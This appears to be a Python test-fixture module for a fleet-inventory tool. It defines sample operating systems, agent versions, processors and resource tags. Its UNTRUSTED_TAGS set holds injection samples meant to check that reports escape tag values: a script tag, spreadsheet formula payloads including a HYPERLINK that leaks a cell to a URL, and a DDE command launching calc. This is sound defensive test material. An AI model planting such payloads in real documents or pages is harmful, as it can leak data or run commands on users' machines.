"""What nodes are made of: operating systems, agents, processors, and the words that people put into tags."""

from __future__ import annotations

from fleet.model import Hardware, System

SYSTEMS = {
    "amzn2023": System("amzn2023", "Linux", "Amazon Linux", "2023", "6.1.119-129.201.amzn2023.x86_64"),
    "amzn2": System("amzn2", "Linux", "Amazon Linux", "2", "5.10.230-223.885.amzn2.x86_64"),
    "rhel8": System("rhel8", "Linux", "Red Hat Enterprise Linux", "8.10", "4.18.0-553.el8_10.x86_64", "bp-6fa54006"),
    "rhel9": System("rhel9", "Linux", "Red Hat Enterprise Linux", "9.4", "5.14.0-427.el9.x86_64", "bp-6fa54006"),
    "sles15": System("sles15", "Linux", "SLES", "15.5", "5.14.21-150500.55.88-default"),
    "ubuntu2204": System("ubuntu2204", "Linux", "Ubuntu", "22.04", "6.8.0-1021-aws"),
    "ubuntu2404": System("ubuntu2404", "Linux", "Ubuntu", "24.04", "6.8.0-1021-aws"),
    "debian12": System("debian12", "Linux", "Debian GNU/Linux", "12", "6.1.0-28-cloud-amd64"),
    "windows2016": System(
        "windows2016", "Windows", "Microsoft Windows Server 2016 Datacenter", "10.0.14393", None, "bp-6ba54002"
    ),
    "windows2019": System(
        "windows2019", "Windows", "Microsoft Windows Server 2019 Datacenter", "10.0.17763", None, "bp-6ba54002"
    ),
    "windows2022": System(
        "windows2022", "Windows", "Microsoft Windows Server 2022 Datacenter", "10.0.20348", None, "bp-6ba54002"
    ),
    "macos14": System("macos14", "MacOS", "macOS", "14.7.1", "23.6.0"),
    "macos15": System("macos15", "MacOS", "macOS", "15.1.1", "24.1.0"),
}

# The newest is the third: as text, "3.3.987.0" and "3.3.40.0" would sort behind it.
AGENT_VERSIONS = ("3.3.987.0", "3.3.40.0", "3.3.2299.0", "3.3.2299.0", "3.2.2222.0", "3.3.2299.0", "3.1.1767.0")

EARLIER_AGENT_VERSION = "3.0.1124.0"

PROCESSORS = (
    Hardware("Intel(R) Xeon(R) Platinum 8175M CPU @ 2.50GHz", 2500, 2, 1, 1, True),
    Hardware("Intel(R) Xeon(R) Platinum 8259CL CPU @ 2.50GHz", 2500, 4, 1, 2, True),
    Hardware("AMD EPYC 7571", 2200, 8, 1, 4, True),
    Hardware("Intel(R) Xeon(R) CPU E5-2686 v4 @ 2.30GHz", 2300, 16, 2, 16, False),
)
MAC_PROCESSOR = Hardware("Intel(R) Core(TM) i7-8700B CPU @ 3.20GHz", 3200, 12, 1, 6, True)

PATCH_GROUPS = ("prod-linux", "prod-windows", "staging", "dev", "Büro")

# Names repeat across nodes, as those of an Auto Scaling group do.
NODE_NAMES = ("web-server", "web-server", "app-server", "batch-worker", "db-primary", "東京-web", "bastion")
ENVIRONMENTS = ("production", "production", "staging", "development", "test")
OWNERS = ("platform@example.com", "Zoë Müller", "Łukasz Żak", "payments", "data & analytics")
COST_CENTERS = ("4711", "0042", "CC-1000", "R&D")

# Beside the Name tag: keys that differ by case only, AWS's own keys, an empty value, text in several scripts.
NINE_TAGS = (
    ("environment", "Production"),
    ("Environment", "production"),
    ("Owner", "Zoë Müller"),
    ("CostCenter", "0042"),
    ("aws:autoscaling:groupName", "asg-web-prod"),
    ("aws:cloudformation:stack-name", "web-prod"),
    ("Notes", ""),
    ("Standort", "München, Gebäude 3"),
    ("担当", "運用チーム 🚀"),
)

# What a node was once tagged with.
EARLIER_TAGS = (("Name", "old-name"), ("Environment", "production"), ("Retired", "yes"))

# Tag values are written by anyone in the organization; a report shows them and must not run them.
UNTRUSTED_TAGS = (
    ("Name", "<script>alert('name')</script>"),
    ("Formula", '=HYPERLINK("http://example.com/?x="&A1,"open")'),
    ("Sum", "+1+1"),
    ("Mention", "@SUM(1,1)"),
    ("Negative", "-2+3"),
    ("Comment", 'says "hello, world"; it\'s fine'),
    ("Path", "C:\\Program Files\\Ledger\\new"),
    ("Markup", "&lt;b&gt; [bold]{x}[/bold] ${x} %s"),
    ("=cmd|' /C calc'!A0", "key"),
)
UNTRUSTED_COMPUTER_NAME = "münchen-db01.corp.example"
